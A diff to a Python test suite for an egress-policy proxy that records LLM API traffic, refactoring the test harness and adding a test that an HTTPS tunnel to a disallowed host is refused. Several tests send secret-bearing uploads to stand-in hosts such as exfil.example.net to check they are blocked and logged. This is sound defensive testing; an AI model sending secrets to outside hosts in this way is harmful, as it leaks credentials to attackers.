@@ -32,7 +32,8 @@ from ledger import fingerprint_secret, keyed_fingerprint
 from collectors.llm import LlmCallBuilder
 from collectors.proxy import ProxyInfo, run_proxy_witness
 from ledger import BlobStore, Submission
-from ledger.events import HttpExchange, LlmCall, WitnessGap, WitnessRaw, WitnessStarted, WitnessStopped
+from ledger.events import (HttpExchange, LlmCall, ProxyTunnel, WitnessGap, WitnessRaw, WitnessStarted,
+                           WitnessStopped)
 from tests.collectors.llm_server import FIXTURES, ROUTES, LlmServer
 
 # One worker runs the module: its witness is shared, and the last test greps what all the
@@ -62,7 +63,9 @@ REQUESTS = {
 class Witness:
     """The witness running in a thread; `submissions` grows as events arrive."""
 
-    def __init__(self, tmp: Path, server: LlmServer):
+    def __init__(self, tmp: Path, server: LlmServer, *,
+                 allow_hosts: tuple[str, ...] = ("api.anthropic.com", "api.openai.com", "localhost"),
+                 upstream: dict[str, str] | None = None, **options):
         self.blobs = BlobStore(tmp / "blobs")
         self.submissions: list[Submission] = []
         self.info: ProxyInfo | None = None
@@ -70,6 +73,8 @@ class Witness:
         self._stop = threading.Event()
         self._ready = threading.Event()
         self._upstream = {h: f"127.0.0.1:{server.port}" for h in ("api.anthropic.com", "api.openai.com")}
+        self._upstream.update(upstream or {})
+        self._allow_hosts, self._options = allow_hosts, options
         self._server = server
         self._confdir = tmp / "mitmproxy"
         self._thread = threading.Thread(target=self._run, daemon=True)
@@ -89,9 +94,8 @@ class Witness:
                 nursery.start_soon(collect)
                 self.info = await nursery.start(lambda task_status: run_proxy_witness(
                     send, blobs=self.blobs, fingerprint_key=KEY, confdir=self._confdir,
-                    allow_hosts=("api.anthropic.com", "api.openai.com", "localhost"),
-                    upstream=self._upstream, upstream_trusted_ca=self._server.cert,
-                    task_status=task_status))
+                    allow_hosts=self._allow_hosts, upstream=self._upstream,
+                    upstream_trusted_ca=self._server.cert, task_status=task_status, **self._options))
                 self._ready.set()
                 await trio.to_thread.run_sync(self._stop.wait)
                 nursery.cancel_scope.cancel()
@@ -222,15 +226,23 @@ def _calls_after(witness: Witness, exchange: HttpExchange) -> list[LlmCall]:
 # --- policy ------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("scheme", ["https", "http"])
-def test_denied_host_gets_403_and_is_recorded(witness, scheme):
-    status, body = call(witness, f"{scheme}://exfil.example.net/upload?{secret_query('deny-' + scheme)}", b"{}")
+def test_denied_host_gets_403_and_is_recorded(witness):
+    status, body = call(witness, f"http://exfil.example.net/upload?{secret_query('deny-http')}", b"{}")
     assert status == 403
     assert b"caisson egress policy: host exfil.example.net is not in the allow list" in body
-    [ex] = witness.wait_for(HttpExchange, lambda e: f"tag=deny-{scheme}&" in e.path)
-    assert ex.host == "exfil.example.net" and ex.status == 403 and ex.scheme == scheme
+    [ex] = witness.wait_for(HttpExchange, lambda e: "tag=deny-http&" in e.path)
+    assert ex.host == "exfil.example.net" and ex.status == 403 and ex.scheme == "http"
     assert ex.denied == "caisson egress policy: host exfil.example.net is not in the allow list"
     assert not any(c.requested_model for c in _calls_after(witness, ex))  # no model call for a refusal
+
+
+def test_denied_host_gets_its_tunnel_refused_and_recorded(witness):
+    with pytest.raises(urllib.error.URLError, match="Tunnel connection failed: 403"):
+        call(witness, f"https://exfil.example.org/upload?{secret_query('deny-https')}", b"{}")
+    [tunnel] = witness.wait_for(ProxyTunnel, lambda t: t.host == "exfil.example.org")
+    assert (tunnel.via, tunnel.port, tunnel.protocol, tunnel.exchanges) == ("connect", 443, "", 0)
+    assert tunnel.denied == "caisson egress policy: host exfil.example.org is not in the allow list"
+    assert not [e for e in witness.events(HttpExchange) if e.host == "exfil.example.org"]  # nothing went further
 
 
 # --- streaming ---------------------------------------------------------------------------
@@ -296,10 +308,11 @@ def test_non_http_client_on_the_proxy_port_is_recorded(witness):
         sock.sendall(b"\x00\x01GARBAGE not http at all\r\n\r\n")
         sock.recv(1000)
     witness.wait_for(WitnessRaw, lambda r: "connection from 127.0.0.1" in r.line)
-    status, _ = call(witness, "https://localhost/?tag=after-garbage")  # the proxy still works
-    assert status in (502, 503)  # localhost:443 has no server: an upstream error, recorded
+    request = (FIXTURES / "anthropic_request.json").read_bytes()
+    status, _ = call(witness, "https://api.anthropic.com/v1/messages?tag=after-garbage", request)
+    assert status == 200  # the proxy still works
     [ex] = witness.wait_for(HttpExchange, lambda e: "tag=after-garbage" in e.path)
-    assert ex.error and ex.status is None or ex.status >= 500
+    assert ex.status == 200 and ex.error is None
 
 
 # --- secrets: greps everything the witness holds, including traffic of its own ----------
